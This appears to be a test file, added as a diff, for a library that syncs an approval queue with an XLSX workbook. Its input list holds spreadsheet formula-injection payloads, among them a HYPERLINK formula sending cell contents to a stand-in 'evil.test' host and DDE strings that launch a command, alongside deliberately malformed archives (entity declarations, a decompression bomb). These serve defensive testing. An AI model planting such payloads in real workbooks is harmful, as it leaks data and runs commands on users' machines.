@@ -1,0 +1,466 @@
+"""The XLSX file itself: what the operator made survives, what we write is plain, and nothing is lost or broken."""
+
+import os
+import random
+import shutil
+import signal
+import time
+import zipfile
+from datetime import date
+from decimal import Decimal
+from io import BytesIO
+
+import openpyxl
+import pytest
+from openpyxl.cell.rich_text import CellRichText, TextBlock
+from openpyxl.cell.text import InlineFont
+from openpyxl.comments import Comment
+from openpyxl.styles import PatternFill
+from sheet_examples import SCHEMA, proposal, question
+from sheet_worlds import ExcelWorld
+
+from sheets_sync.errors import ColumnsWrong, ReadBackDiffers, WorkbookBroken, WorkbookChanged, WorkbookHeld
+from sheets_sync.excel import ExcelWorkbook, archive
+from sheets_sync.row import Odd
+from sheets_sync.schema import Column, Schema
+
+PAYLOADS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.test?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "#REF!",
+    "'=1+1",
+    " =1+1",
+    "007",
+    "1e5",
+    "2026-05-01",
+    "TRUE",
+    "_x0041_",
+    "x005F_x",
+    "\\x41",
+    "\x00\x07\x1b[31m",
+    "a\r\nb",
+    "\ufffe\ud800",
+    "  spaces  ",
+    "é",
+]
+
+
+@pytest.fixture
+def world(tmp_path):
+    world = ExcelWorld(proposal(1), proposal(2), question(3, "Business", "Private"), folder=tmp_path)
+    world.sync()
+    return world
+
+
+def edit(world, change):
+    book = openpyxl.load_workbook(world.path, rich_text=True)
+    change(book, book[SCHEMA.sheet])
+    book.save(world.path)
+
+
+def repack(path, change):
+    """Rewrite the parts of an XLSX file as a desktop program might have saved them."""
+    with zipfile.ZipFile(path) as old:
+        parts = {name: old.read(name) for name in old.namelist()}
+    change(parts)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+        for name, part in parts.items():
+            new.writestr(name, part)
+
+
+# what we write
+
+
+@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
+def test_text_is_text_and_comes_back_as_it_was(text, tmp_path):
+    world = ExcelWorld(proposal(1, cells={"title": text, "content": f"x {text}"}), folder=tmp_path)
+    world.sync()
+
+    (row,) = world.workbook.read(SCHEMA).rows
+    assert (row.content["title"], row.content["content"]) == (text, f"x {text}")
+    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]
+    assert {cell.data_type for line in sheet for cell in line} <= {"s", "n"}
+    assert not world.sync().added, "the row is known again"
+
+
+def test_numbers_and_days_are_numbers_and_days(world):
+    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]
+
+    assert (sheet["E2"].value, sheet["E2"].number_format) == (199.5, "#,##0.00##")
+    assert (sheet["F2"].value.date(), sheet["F2"].number_format) == (date(2026, 5, 1), "yyyy-mm-dd")
+    assert world.workbook.read(SCHEMA).rows[0].content["amount"] == Decimal("199.5")
+
+
+def test_system_cells_are_locked_and_human_cells_are_not(world):
+    sheet = openpyxl.load_workbook(world.path)[SCHEMA.sheet]
+
+    assert sheet.protection.sheet
+    assert sheet.protection.password is None
+    assert not any((sheet.protection.sort, sheet.protection.autoFilter, sheet.protection.deleteRows))
+    assert [cell.protection.locked for cell in sheet[2]] == [True] * 7 + [False] * 3
+    assert [sheet.column_dimensions[letter].hidden for letter in "ABC"] == [True, True, False]
+    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:J4")
+
+
+def test_dropdowns_are_found_by_key_and_hash(world):
+    book = openpyxl.load_workbook(world.path)
+
+    assert book["sync lists"].sheet_state == "hidden"
+    assert [cell.value for cell in book["sync lists"][4]] == [
+        "question/3 h3 choice", 2, "Business", "Private", None, None, None,
+    ]  # fmt: skip
+    assert [one.formula1 for one in book[SCHEMA.sheet].data_validations.dataValidation] == [
+        "list_of_decision",
+        "list_of_choice",
+    ]
+
+
+def test_a_column_of_words_has_its_own_dropdown(tmp_path):
+    urgency = Column("urgency", "Urgency", owner="human", kind="choice", choices=("high", "low"))
+    schema = Schema("Queue", (*SCHEMA.columns, urgency))
+    workbook = ExcelWorkbook(tmp_path / "queue.xlsx")
+
+    workbook.write(schema, workbook.read(schema), [proposal(1)], {})
+
+    book = openpyxl.load_workbook(tmp_path / "queue.xlsx")
+    assert [cell.value for cell in book["sync lists"][1]][:4] == ["column urgency", 2, "high", "low"]
+    assert '"column urgency"' in book.defined_names["list_of_urgency"].attr_text
+
+
+# what the operator made
+
+
+def test_the_operators_own_work_survives_fifty_syncs(world):
+    def decorate(book, sheet):
+        sheet["K1"], sheet["K2"] = "My column", "=E2*2"
+        sheet["C2"].comment = Comment("look here", "Ada")
+        sheet["C2"].fill = PatternFill("solid", fgColor="FFCC00")
+        sheet.column_dimensions["C"].width = 77
+        sheet.auto_filter.add_filter_column(4, ["199.50"])
+        own = book.create_sheet("My sheet")
+        own["A1"] = "=SUM(Queue!E2:E9)"
+        own["A2"] = CellRichText(["a ", TextBlock(InlineFont(b=True), "bold"), " ", "word"])
+        own.merge_cells("B1:C2")
+        own.conditional_formatting.add("A1", openpyxl.formatting.rule.CellIsRule("greaterThan", ["1"]))
+
+    edit(world, decorate)
+    for number in range(10, 60):
+        world.queue.put(proposal(number, cells={"title": f"item {number}"}))
+        world.sync()
+
+    book = openpyxl.load_workbook(world.path, rich_text=True)
+    sheet, own = book[SCHEMA.sheet], book["My sheet"]
+    assert (sheet["K1"].value, sheet["K2"].value) == ("My column", "=E2*2")
+    assert (sheet["C2"].comment.text, sheet["C2"].comment.author) == ("look here", "Ada")
+    assert sheet["C2"].fill.fgColor.rgb == "00FFCC00"
+    assert sheet.column_dimensions["C"].width == 77
+    assert sheet.auto_filter.ref == "A1:J54"
+    assert sheet.auto_filter.filterColumn[0].filters.filter == ["199.50"]
+    assert (own["A1"].value, str(own["A2"].value)) == ("=SUM(Queue!E2:E9)", "a bold word")
+    assert own["A2"].value[1].font.b
+    assert str(own.merged_cells) == "B1:C2"
+    assert len(own.conditional_formatting) == 1
+    assert len(sheet.data_validations.dataValidation) == 2
+
+
+def test_columns_and_the_header_may_be_moved_and_the_sheet_renamed(world):
+    def move(book, sheet):
+        sheet.protection.sheet = False
+        sheet.insert_cols(3)
+        sheet.insert_rows(1, amount=2)
+        sheet.title = "What waits"
+        sheet["I4"] = "reject"  # `decision`, one column further right, two lines further down
+
+    edit(world, move)
+    world.queue.put(proposal(4))
+    world.sync()
+
+    assert world.words() == [("proposal/1", "reject")]
+    book = openpyxl.load_workbook(world.path)
+    assert SCHEMA.sheet not in book.sheetnames
+    assert book["What waits"]["A7"].value == "proposal/4"
+    assert not book["What waits"].protection.sheet, "the operator's choice stays"
+
+
+def test_our_sheet_is_added_to_a_workbook_of_the_operators_own(tmp_path):
+    book = openpyxl.Workbook()
+    book.active["A1"] = "mine"
+    book.save(tmp_path / "approvals.xlsx")
+    world = ExcelWorld(proposal(1), folder=tmp_path)
+
+    world.sync()
+
+    book = openpyxl.load_workbook(world.path)
+    assert book.sheetnames == ["Queue", "Sheet", "sync lists", "How this works"] or book.sheetnames[:2] == [
+        "Queue",
+        "Sheet",
+    ]
+    assert book["Sheet"]["A1"].value == "mine"
+
+
+@pytest.mark.parametrize("spoil", [("H1", "Decide"), ("K1", "decision")], ids=["missing", "twice"])
+def test_a_missing_or_doubled_column_is_told_and_nothing_is_written(world, spoil):
+    edit(world, lambda book, sheet: sheet.__setitem__(*spoil))
+    before = world.path.read_bytes()
+
+    with pytest.raises(ColumnsWrong, match="decision"):
+        world.sync()
+    assert world.path.read_bytes() == before
+
+
+# what is read
+
+
+@pytest.mark.parametrize(
+    ("entry", "found"),
+    [
+        ('="app"&"rove"', Odd("a formula")),
+        ("#REF!", Odd("an error value")),
+        (True, Odd("a true/false value")),
+        (7, Decimal(7)),
+        (date(2026, 5, 1), date(2026, 5, 1)),
+        (CellRichText(["app", TextBlock(InlineFont(b=True), "rove")]), "approve"),
+    ],
+    ids=str,
+)
+def test_an_entry_is_read_as_what_it_plainly_is(world, entry, found):
+    edit(world, lambda book, sheet: sheet.__setitem__("H2", entry))
+
+    assert world.workbook.read(SCHEMA).rows[0].entered["decision"] == found
+
+
+def test_a_linked_word_is_no_decision_and_a_linked_note_is_a_note(world):
+    def link(book, sheet):
+        for address, text in (("H2", "approve"), ("J3", "ada@example.com")):
+            sheet[address] = text
+            sheet[address].hyperlink = "http://example.com"
+
+    edit(world, link)
+    first, second, _ = world.workbook.read(SCHEMA).rows
+
+    assert first.entered["decision"] == Odd("a link")
+    assert second.entered["note"] == "ada@example.com"
+
+
+# what is refused
+
+
+def _far_merge(parts):
+    name = "xl/worksheets/sheet1.xml"
+    merges = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells><pageMargins'
+    parts[name] = parts[name].replace(b"<pageMargins", merges, 1)
+
+
+def _strict(parts):
+    old, new = (
+        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+        b"http://purl.oclc.org/ooxml/x/main",
+    )
+    parts.update({name: part.replace(old, new) for name, part in parts.items()})
+
+
+BROKEN = {
+    "entities": lambda parts: parts.update({"xl/workbook.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + parts["xl/workbook.xml"]}),
+    "bomb": lambda parts: parts.update({"xl/media/x.bin": bytes(archive.MAX_UNPACKED_BYTES)}),
+    "far merge": _far_merge,
+    "too many cells": lambda parts: parts.update({"xl/worksheets/sheet9.xml": b"<c/>" * (archive.MAX_CELLS + 1)}),
+    "no sheet": lambda parts: parts.pop("xl/worksheets/sheet1.xml"),
+    "strict": _strict,
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", BROKEN)
+def test_a_harmful_or_unreadable_file_is_an_error_and_never_written_over(world, kind):
+    repack(world.path, BROKEN[kind])
+    before = world.path.read_bytes()
+
+    with pytest.raises(WorkbookBroken):
+        world.sync()
+    assert world.path.read_bytes() == before
+
+
+def test_truncated_and_empty_files_are_an_error_and_never_written_over(world):
+    whole = world.path.read_bytes()
+    for size in range(0, len(whole) - 1, 97):
+        world.path.write_bytes(whole[:size])
+        with pytest.raises(WorkbookBroken):
+            world.workbook.read(SCHEMA)
+        assert world.path.read_bytes() == whole[:size]
+
+
+def test_flipped_bits_are_an_error_or_harmless(world):
+    whole, chance = world.path.read_bytes(), random.Random(7)
+    rows = world.workbook.read(SCHEMA).rows
+    for _ in range(100):
+        flipped = bytearray(whole)
+        flipped[chance.randrange(len(whole))] ^= 1 << chance.randrange(8)
+        world.path.write_bytes(flipped)
+        try:
+            assert world.workbook.read(SCHEMA).rows == rows
+        except WorkbookBroken:
+            continue
+
+
+def test_an_encrypted_file_is_named_as_such(world):
+    world.path.write_bytes(archive.OLE + bytes(4096))
+
+    with pytest.raises(WorkbookBroken, match="encrypted"):
+        world.workbook.read(SCHEMA)
+
+
+def _into_sheet(element):
+    def change(parts):
+        name = "xl/worksheets/sheet1.xml"
+        parts[name] = parts[name].replace(b"</worksheet>", element + b"</worksheet>")
+
+    return change
+
+
+X14 = b'<extLst><ext xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" uri="{0}">%s</ext></extLst>'
+LOST = {
+    "sparklines": _into_sheet(X14 % b"<x14:sparklineGroups><x14:sparklineGroup/></x14:sparklineGroups>"),
+    "newer dropdowns": _into_sheet(X14 % b"<x14:dataValidations><x14:dataValidation/></x14:dataValidations>"),
+    "newer conditional formats": _into_sheet(X14 % b"<x14:conditionalFormatting/>"),
+    "form controls": lambda parts: parts.update({"xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>"}),
+    "slicers": lambda parts: parts.update({"xl/slicers/slicer1.xml": b"<slicers/>"}),
+    "threaded comments": lambda parts: parts.update({"xl/threadedComments/threadedComment1.xml": b"<x/>"}),
+    "macros": lambda parts: parts.update({"xl/vbaProject.bin": b"x"}),
+    "shapes or text boxes": lambda parts: parts.update(
+        {"xl/drawings/drawing1.xml": b"<xdr:wsDr><xdr:sp/></xdr:wsDr>"}
+    ),
+    "xl/unheardOf.xml": lambda parts: parts.update({"xl/unheardOf.xml": b"<x/>"}),
+}
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+@pytest.mark.parametrize("what", LOST)
+def test_what_a_save_would_lose_holds_the_workbook_and_is_named(world, what):
+    world.enter("proposal/1", "approve")
+    repack(world.path, LOST[what])
+    before = world.path.read_bytes()
+
+    report = world.sync()
+
+    assert world.words() == [("proposal/1", "approve")]
+    assert f"saving would lose {what}" in report.held.replace("an extension of a worksheet, ", "")
+    assert report.waiting == 1
+    assert world.path.read_bytes() == before
+
+
+def test_an_ordinary_workbook_is_not_held(world):
+    assert not world.workbook.read(SCHEMA).held
+
+
+# the file
+
+
+@pytest.mark.parametrize("lock", ["~$approvals.xlsx", ".~lock.approvals.xlsx#"])
+def test_a_lock_file_of_a_desktop_program_holds_the_workbook(world, lock):
+    world.path.with_name(lock).touch()
+    sheet = world.workbook.read(SCHEMA)
+
+    assert lock in sheet.held
+    with pytest.raises(WorkbookHeld):
+        world.workbook.write(SCHEMA, sheet, [proposal(4)], {})
+
+
+def test_a_file_saved_between_read_and_write_is_read_again(world):
+    read, saves = world.workbook.read, []
+
+    def read_then_somebody_saves(schema):
+        sheet = read(schema)
+        if not saves:
+            saves.append(1)
+            world.enter("proposal/2", "reject")
+        return sheet
+
+    world.workbook.read = read_then_somebody_saves
+    world.enter("proposal/1", "approve")
+    report = world.sync()
+
+    assert world.words() == [("proposal/1", "approve"), ("proposal/2", "reject")]
+    assert [decision.key for decision in report.decisions] == ["proposal/1", "proposal/2"]
+    assert world.line("proposal/2")["decision"] == "reject"
+
+
+def test_a_file_that_never_rests_is_given_up(world):
+    def somebody_saves():
+        world.path.write_bytes(world.path.read_bytes() + b" ")
+
+    with pytest.raises(WorkbookChanged):
+        ExcelWorkbook(world.path, wait=somebody_saves).read(SCHEMA)
+
+
+def test_what_does_not_read_back_is_not_put_in_place(world, monkeypatch):
+    before = world.path.read_bytes()
+    monkeypatch.setattr("sheets_sync.excel.book.put", lambda cell, value: None)
+
+    with pytest.raises(ReadBackDiffers):
+        world.workbook.write(SCHEMA, world.workbook.read(SCHEMA), [proposal(4)], {2: "new"})
+    assert world.path.read_bytes() == before
+
+
+def test_the_mode_of_the_file_stays_and_a_new_one_is_private(world):
+    assert world.path.stat().st_mode & 0o777 == 0o600
+    world.path.chmod(0o640)
+    world.queue.put(proposal(4))
+    world.sync()
+
+    assert world.path.stat().st_mode & 0o777 == 0o640
+    assert [path.name for path in world.path.parent.iterdir()] == ["approvals.xlsx"]
+
+
+def test_a_linked_file_is_replaced_where_it_lies(world, tmp_path):
+    link = tmp_path / "link.xlsx"
+    link.symlink_to(world.path)
+    workbook = ExcelWorkbook(link)
+
+    workbook.write(SCHEMA, workbook.read(SCHEMA), [proposal(4)], {})
+
+    assert link.is_symlink()
+    assert len(world.workbook.read(SCHEMA).rows) == 4
+
+
+def test_killed_while_saving_the_file_is_the_old_or_the_new_one(world):
+    chance = random.Random(7)
+    start = BytesIO(world.path.read_bytes())
+    for _ in range(20):
+        world.path.write_bytes(start.getvalue())
+        before = world.workbook.read(SCHEMA).rows
+        child = os.fork()
+        if child == 0:
+            _save_for_ever(world.workbook)
+        time.sleep(0.02 + chance.random() * 0.1)  # a moment for the kill to hit somewhere in a save
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+
+        after = world.workbook.read(SCHEMA).rows
+        assert after[: len(before)] == before
+        assert [row.key for row in after[len(before) :]] == [
+            f"proposal/{n}" for n in range(len(after) - len(before))
+        ]
+
+
+def _save_for_ever(workbook):
+    try:
+        for number in range(1_000):
+            workbook.write(SCHEMA, workbook.read(SCHEMA), [proposal(number, cells={})], {})
+    finally:
+        os._exit(1)
+
+
+def test_a_conflict_copy_beside_the_file_is_not_touched(world):
+    copy = world.path.with_name("approvals (1).xlsx")
+    shutil.copy(world.path, copy)
+    before = copy.read_bytes()
+    world.enter("proposal/1", "approve")
+    world.sync()
+
+    assert copy.read_bytes() == before
